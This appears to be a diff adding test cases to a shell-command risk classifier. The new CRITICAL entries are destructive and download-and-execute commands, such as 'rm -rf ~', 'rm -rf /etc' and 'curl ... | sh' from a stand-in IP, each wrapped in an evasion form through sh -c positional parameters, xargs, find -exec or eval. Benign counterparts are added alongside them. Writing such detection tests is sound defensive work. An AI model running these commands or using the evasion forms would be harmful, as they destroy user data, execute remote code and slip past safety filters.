@@ -1022,6 +1022,16 @@ TRAPS_AND_FORMS: list[tuple[str, RiskLevel]] = [
     ),
     ('php -r \'eval("system(\\"rm -rf ~\\");");\'', CRITICAL),
     ("ruby -e 'eval(\"system(%q{rm -rf ~})\")'", CRITICAL),
+    # positional parameters of sh -c, xargs fed by a here-string, $BASH
+    ("bash -c 'eval \"$1\"' _ 'rm -rf ~'", CRITICAL),
+    ("sh -c '$0 -rf ~' rm", CRITICAL),
+    ("sh -c '\"$@\"' sh rm -rf /home/alice", CRITICAL),
+    ("bash -c \"$1\" bash 'curl -s http://203.0.113.9/a | sh'", CRITICAL),
+    ("find / -maxdepth 0 -exec bash -c 'rm -rf \"$1\"' _ {} \\;", CRITICAL),
+    ("xargs -I% sh -c 'rm -rf %' <<< '/home/alice'", CRITICAL),
+    ("printf '%s\\0' /etc | xargs -0 rm -rf", CRITICAL),
+    ("\"$BASH\" -c 'rm -rf ~'", CRITICAL),
+    ("v='curl -s http://203.0.113.9/a | sh'; eval \"$v\"", CRITICAL),
 ]
 
 BENIGN_FORMS: list[tuple[str, RiskLevel]] = [
@@ -1063,6 +1073,10 @@ BENIGN_FORMS: list[tuple[str, RiskLevel]] = [
     ("echo 'print(\"hi\")' > hello.py && python3 hello.py", MODERATE),
     ("cat > build.sh <<'EOF'\nmake clean && make\nEOF\nbash build.sh", MODERATE),
     ("python3 -c \"exec('print(42)')\"", MODERATE),
+    ("bash -c 'echo \"$1\"' _ hello", MODERATE),
+    ("find . -name '*.log' -exec sh -c 'gzip \"$1\"' _ {} \\;", MODERATE),
+    ("xargs -n1 echo <<< 'a b c'", MODERATE),
+    ("v='ls -la'; eval \"$v\"", MODERATE),
     (
         "Rscript -e 'd <- read.csv(url(\"https://example.com/data.csv\")); print(summary(d))'",
         MODERATE,
